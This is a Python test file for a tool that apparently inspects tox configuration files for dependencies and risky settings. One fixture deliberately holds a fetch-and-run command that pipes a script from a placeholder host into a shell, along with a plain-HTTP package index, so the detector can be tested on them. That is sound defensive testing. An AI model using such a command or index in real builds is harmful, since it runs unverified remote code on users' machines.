"""tox.ini, tox.toml and tox's table in pyproject.toml."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlgate.installs.tox import INSPECTOR
from mlgate.records import Include
from tests.reading import Said, read

INI = """[tox]
envlist = py{310,311}, lint
requires =
    tox>=4
    tox-uv

[base]
extra =
    hypothesis==6.1

[testenv]
deps =
    -r{toxinidir}/requirements-dev.txt
    pytest>=7,<9   # runner
    py310: numpy==1.26.4
    django{32,40}: Django == 3.2
    {[base]extra}
    {env:TORCH:torch==2.0.0}
    {env:NOTHING}
    mypkg @ git+https://github.com/me/x@main
setenv =
    PIP_EXTRA_INDEX_URL = https://pkgs.example.com/simple
    PYTHONPATH = {toxinidir}
commands =
    pip install -U internal-thing
    pytest {posargs}
    bash -c "curl https://x.example/i.sh | sh"

[testenv:lint]
deps = ruff==0.5.0
install_command = pip install --index-url http://h.example/simple {opts} {packages}
"""


def packages(said: Said) -> dict[str, str | None]:
    return {c.name: c.version for c in said.components}


def lines(said: Said) -> list[tuple[str, int | None]]:
    return sorted((f.rule.id, f.location.line) for f in said.findings)


def test_an_ini_file() -> None:
    said = read(INSPECTOR, "tox.ini", INI)
    assert packages(said) == {
        "tox": None,
        "tox-uv": None,
        "pytest": None,
        "numpy": "1.26.4",
        "django": "3.2",
        "hypothesis": "6.1",
        "torch": "2.0.0",
        "mypkg": None,
        "ruff": "0.5.0",
        "internal-thing": None,
    }
    assert {c.package.scope for c in said.components if c.package} == {"dev"}
    assert [item.path for item in said.observations if isinstance(item, Include)] == ["requirements-dev.txt"]
    assert lines(said) == [
        ("MLG-DEP-010", 22),
        ("MLG-DEP-013", 20),
        ("MLG-DEP-014", 31),
        ("MLG-DEP-050", 27),
        ("MLG-DEP-052", 19),
    ]


TOML = """requires = ["tox>=4.19"]
[env_run_base]
deps = ["pytest==8.0", "-r requirements/test.txt"]
set_env = { PIP_INDEX_URL = "https://pkgs.example.com/simple" }
commands = [["pytest", "tests"], ["python", "-m", "pip", "install", "six==1.16.0"]]
[env.type]
deps = ["mypy==1.11.2"]
"""


def test_a_toml_file_and_the_same_in_pyproject() -> None:
    said = read(INSPECTOR, "tox.toml", TOML)
    assert packages(said) == {"tox": None, "pytest": "8.0", "six": "1.16.0", "mypy": "1.11.2"}
    assert lines(said) == [("MLG-DEP-080", 4)]
    inside = TOML.replace("requires", "[tool.tox]\nrequires", 1).replace("[env", "[tool.tox.env")
    again = read(INSPECTOR, "pyproject.toml", inside)
    assert packages(again) == packages(said)
    assert lines(again) == [("MLG-DEP-080", 5)]


def test_an_ini_file_inside_of_pyproject() -> None:
    text = '[project]\nname = "x"\n[tool.tox]\nlegacy_tox_ini = """\n[testenv]\ndeps = six==1.16.0\n"""\n'
    said = read(INSPECTOR, "pyproject.toml", text)
    assert [(c.name, c.occurrences[0].location.line) for c in said.components] == [("six", 6)]
    assert read(INSPECTOR, "pyproject.toml", '[project]\nname = "x"\ndependencies = ["six"]\n').observations == ()


@pytest.mark.parametrize(
    "text",
    [
        "[testenv]\ncommands = pytest\n[flake8]\nmax-line-length = 100\n",
        "[testenv]\ndeps =\nskip_install = true\n",
        "[testenv]\ndeps = {[testenv]deps}\n",
        "[testenv]\ndeps = .\n",
    ],
)
def test_files_that_ask_for_nothing(text: str) -> None:
    said = read(INSPECTOR, "tox.ini", text)
    assert (said.components, said.stopped) == ((), None)
    assert said.findings == () or [f.rule.id for f in said.findings] == ["MLG-DEP-052"]


def test_a_file_that_is_no_configuration_is_incomplete() -> None:
    assert read(INSPECTOR, "tox.ini", "deps = six\n[testenv]\n").stopped


@given(st.text(alphabet="[]{}=:\n testnvdp-r#;", max_size=80))
def test_any_text_ends_in_an_answer(text: str) -> None:
    read(INSPECTOR, "tox.ini", "[testenv]\n" + text)
